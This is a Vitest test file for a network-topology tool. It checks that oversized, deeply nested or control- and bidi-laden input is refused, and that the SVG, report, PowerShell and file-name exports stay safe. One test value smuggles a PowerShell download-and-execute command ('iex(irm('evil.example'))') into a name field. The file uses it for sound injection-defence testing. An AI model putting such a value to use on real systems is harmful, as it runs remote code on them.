// @vitest-environment jsdom
/**
 * Hostile and oversized documents: refused before loading with a message naming what is wrong,
 * or accepted — and then every export succeeds (SVG well-formed, reports, PowerShell, file names).
 */
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { createAdapter, type CanvasAdapter } from '../../src/canvas/adapter';
import { exportScene, pageSvgs, wholeSvg } from '../../src/canvas/export';
import { analyzeAllPairs, parseTopology, type TopologyDocument } from '../../src/engine';
import { buildPowerShell, buildReport, exportFileNames, readTopologyFile, serializeTopology } from '../../src/engine/io';
import { jsonDepth, LIMITS } from '../../src/engine/model/limits';
import { createAppStore } from '../../src/store/appStore';
import { readFixture } from './helpers';

const base = (): TopologyDocument => readFixture('two-site-routed.json') as TopologyDocument;

function refusal(doc: unknown): { path: string; message: string }[] {
  const r = parseTopology(doc);
  if (r.ok) throw new Error('expected a refusal');
  return r.errors;
}

/** A cluster of `count` nodes, each with `nics` NICs on one network (addresses 10.x.y.z/16). */
function cluster(count: number, nics = 1): TopologyDocument {
  const nodes = Array.from({ length: count }, (_, i) => ({ id: `n${i}`, name: `HV${i}` }));
  const list = nodes.flatMap((n, i) => Array.from({ length: nics }, (_, k) => ({ id: `${n.id}-${k}`, node: n.id, name: `NIC ${k}`, addresses: [`10.${k}.${i >> 8}.${(i & 255) + 1}/16`] })));
  return { format: 'lm-topology', version: 1, name: 'Big', nodes, nics: list };
}

describe('size limits (refused before loading)', () => {
  it.each([
    // [case, document, path, words in the message]
    ['129 nodes (limit 128)', cluster(129), 'nodes', 'at most 128'],
    ['5,000 nodes (the 890 KB file that froze the tab)', cluster(5000), 'nodes', 'has 5,000 nodes'],
    ['33 NICs on one node (limit 32)', cluster(2, 33), 'nics', "Node 'n0' has 33 NICs"],
    ['65 addresses on one NIC (limit 64)', { ...cluster(2), nics: [{ id: 'x', node: 'n0', name: 'x', addresses: Array.from({ length: 65 }, (_, i) => `10.9.0.${i + 1}/24`) }] }, 'nics[0].addresses', 'at most 64'],
    ['a saved position at 1e308 (every export failed)', { ...cluster(2), layout: { n0: { x: 1e308, y: 0 } } }, 'layout.n0', 'too far out (1e+308, 0); positions up to 1,000,000 pixels'],
    ['10,001 saved positions', { ...cluster(2), layout: Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`p${i}`, { x: 0, y: 0 }])) }, 'layout', 'at most 10000'],
  ] as [string, TopologyDocument, string, string][])('%s', (_, doc, path, words) => {
    const errors = refusal(doc);
    expect(errors[0]!.path).toBe(path);
    expect(errors[0]!.message).toContain(words);
  });

  it('accepts exactly the limits: 128 nodes, 32 NICs on a node', () => {
    expect(LIMITS).toMatchObject({ nodes: 128, nicsPerNode: 32 });
    expect(parseTopology(cluster(128)).ok).toBe(true);
    expect(parseTopology(cluster(2, 32)).ok).toBe(true);
  });
});

describe('unknown top-level fields: depth bounded, kept within it', () => {
  const nested = (depth: number): unknown => {
    let v: unknown = 'leaf';
    for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
    return v;
  };

  it('keeps a field 32 levels deep on save, refuses 33 with a message naming the field', () => {
    const ok = readTopologyFile(JSON.stringify({ ...base(), future: nested(32) }));
    expect(ok.ok).toBe(true);
    if (ok.ok) expect(JSON.parse(serializeTopology(ok.document)).future).toEqual(nested(32));
    const errors = refusal({ ...base(), future: nested(33) });
    expect(errors).toEqual([{ path: 'future', message: expect.stringContaining("The field 'future' is not one this app knows, and it is nested more than 32 levels") }]);
  });

  it('measures a 200,000-level nesting without running out of stack', () => {
    const text = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const r = readTopologyFile(`{"format":"lm-topology","version":1,"deep":${text}}`);
    expect(r.ok).toBe(false);
    expect(jsonDepth(JSON.parse(text), 1_000_000)).toBe(200_000);
  });
});

describe('text the app cannot show safely', () => {
  it.each([
    ['U+0001 in the topology name', (d: TopologyDocument) => void (d.name = 'LM\u0001'), 'name', 'control character (U+0001)'],
    ['U+000C in a node name', (d: TopologyDocument) => void (d.nodes![0]!.name = 'HV\u000c01'), 'nodes[0].name', "The name of Node 'n1' contains an invisible control character (U+000C) at position 3"],
    ['a lone surrogate in the topology name', (d: TopologyDocument) => void (d.name = 'LM \ud800'), 'name', 'unpaired U+D800'],
    ['U+202E (right-to-left override) in a network name', (d: TopologyDocument) => void (d.networks![0]!.name = 'LM \u202egnp.exe'), 'networks[0].name', 'text-direction character (U+202E)'],
    ['U+2066 in an id', (d: TopologyDocument) => void (d.routers![0]!.id = 'r\u2066'), 'routers[0].id', 'The id of Router #1 contains an invisible text-direction'],
    ['a 300,000-character name', (d: TopologyDocument) => void (d.name = 'x'.repeat(300_000)), 'name', '300,000 characters long; at most 200'],
    ['a newline in a site name', (d: TopologyDocument) => void (d.sites![0]!.name = 'Seattle\nEast'), 'sites[0].name', 'control character (U+000A)'],
    ['U+0085 (a C1 control) in a NIC name', (d: TopologyDocument) => void (d.nics![0]!.name = 'LM\u0085'), 'nics[0].name', 'U+0085'],
  ] as [string, (d: TopologyDocument) => void, string, string][])('refuses %s with a message naming it', (_, change, path, words) => {
    const doc = base();
    change(doc);
    const errors = refusal(doc);
    expect(errors.map((e) => e.path)).toContain(path);
    expect(errors.find((e) => e.path === path)!.message).toContain(words);
  });

  it('keeps line breaks and tabs in the description', () => {
    expect(parseTopology({ ...base(), description: 'Line one\nline two\r\n\tindented' }).ok).toBe(true);
  });
});

let adapter: CanvasAdapter | null = null;
afterEach(() => {
  adapter?.destroy();
  adapter = null;
});

/** Every export of a document the parser accepted; throws when one fails. */
function exportAll(doc: TopologyDocument): void {
  const r = parseTopology(doc);
  if (!r.ok) throw new Error('not accepted');
  const t = r.topology;
  const nodes = t.nodes.map((n) => n.id);
  const store = createAppStore({ document: doc, pair: nodes.length > 1 ? [nodes[0]!, nodes[1]!] : null });
  adapter?.destroy();
  adapter = createAdapter({ container: null as unknown as HTMLElement, store, headless: true });
  // The exports are drawn from the store's scene: the whole diagram and its A4 pages, each well-formed XML.
  const { scene, caption } = exportScene(store.getState(), { pair: true });
  for (const svg of [wholeSvg(scene, caption).svg, ...pageSvgs(scene, caption, 'a4').map((p) => p.svg)]) {
    const parsed = new DOMParser().parseFromString(svg, 'image/svg+xml');
    expect(parsed.getElementsByTagName('parsererror')).toHaveLength(0);
  }
  const { markdown, html } = buildReport(t, analyzeAllPairs(t), r.diagnostics, { diagramFileName: exportFileNames(doc).png, diagramPng: new Uint8Array([1, 2, 3]) });
  expect(markdown.length).toBeGreaterThan(0);
  expect(html).toContain('</html>');
  expect(buildPowerShell(t, { fileName: exportFileNames(doc).powershell }).script.length).toBeGreaterThan(0);
  for (const name of Object.values(exportFileNames(doc))) expect(name).toMatch(/^[A-Za-z0-9._-]+$/);
}

describe('every export succeeds for every name the parser accepts', () => {
  it('property: random names (any code point, lone surrogates, controls, bidi, long) are refused or exported', () => {
    // Mostly text the parser accepts (any grapheme: accents, CJK, emoji, combining marks), with
    // markup, quotes and the characters it refuses mixed in now and then.
    const text = fc.oneof(
      { weight: 5, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
      { weight: 1, arbitrary: fc.constantFrom('<', '&', ']]>', '"', "'", '#', '`', '$(', ';', '\u2028', '\ufeff', '\ufdd0', '\u{10ffff}', '\u00a0', '\u200b') },
    );
    const hostile = fc.oneof(
      text,
      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
      fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
      fc.constantFrom('\u202e', '\u2066', '\u0001', '\u000c', '\n', '\u0085', '\ufffe', '\uffff'),
    );
    const name = fc.oneof(
      { weight: 16, arbitrary: fc.string({ unit: text, maxLength: 24 }) },
      { weight: 1, arbitrary: fc.string({ unit: hostile, minLength: 1, maxLength: 24 }) },
      { weight: 1, arbitrary: fc.integer({ min: 190, max: 400 }).map((n) => 'W'.repeat(n)) },
    );
    fc.assert(
      fc.property(fc.array(name, { minLength: 6, maxLength: 6 }), (names) => {
        const doc = base();
        doc.name = names[0]!;
        doc.nodes![0]!.name = names[1]!;
        doc.networks![0]!.name = names[2]!;
        doc.sites![0]!.name = names[3]!;
        doc.routers![0]!.name = names[4]!;
        doc.description = names[5]!;
        const r = parseTopology(doc);
        // The oracle: refused exactly when a name has a refused character or is too long.
        // eslint-disable-next-line no-control-regex
        const refused = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufdd0-\ufdef]|\p{Cs}|\p{Noncharacter_Code_Point}/u;
        // eslint-disable-next-line no-control-regex
        const bad = names.slice(0, 5).some((n) => n.length > 200 || refused.test(n)) || /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\p{Cs}|\p{Noncharacter_Code_Point}/u.test(names[5]!);
        expect(r.ok).toBe(!bad);
        if (!r.ok) {
          for (const e of r.errors) expect(['name', 'description', 'nodes[0].name', 'networks[0].name', 'sites[0].name', 'routers[0].name']).toContain(e.path);
          return;
        }
        exportAll(doc);
      }),
      { numRuns: 60 },
    );
  });

  it('exports a name made only of characters a file name cannot have', () => {
    const doc = { ...base(), name: "LM';iex(irm('evil.example'));'" };
    exportAll(doc);
    expect(exportFileNames(doc).powershell).toBe('apply-LM-iex-irm-evil.example.ps1');
  });
});

describe('Markdown report: descriptions stay text', () => {
  it.each([
    // [description, its line in the report]
    ['# Not a heading', '\\# Not a heading'],
    ['1. not a list', '1\\. not a list'],
    ['2) not a list either', '2\\) not a list either'],
    ['---', '\\---'],
    ['- item', '\\- item'],
    ['+ item', '\\+ item'],
    ['=== not a rule', '\\=== not a rule'],
    ['    four spaces are not code', 'four spaces are not code'],
    ['see https://evil.example/x', 'see https\\://evil.example/x'],
    ['www.evil.example', 'www\\.evil.example'],
    ['mail admin@evil.example', 'mail admin\\@evil.example'],
  ])('%j', (description, line) => {
    const doc = { ...base(), description };
    const r = parseTopology(doc);
    if (!r.ok) throw new Error('refused');
    const { markdown } = buildReport(r.topology, analyzeAllPairs(r.topology), r.diagnostics);
    expect(markdown.split('\n')[2]).toBe(line);
  });
});
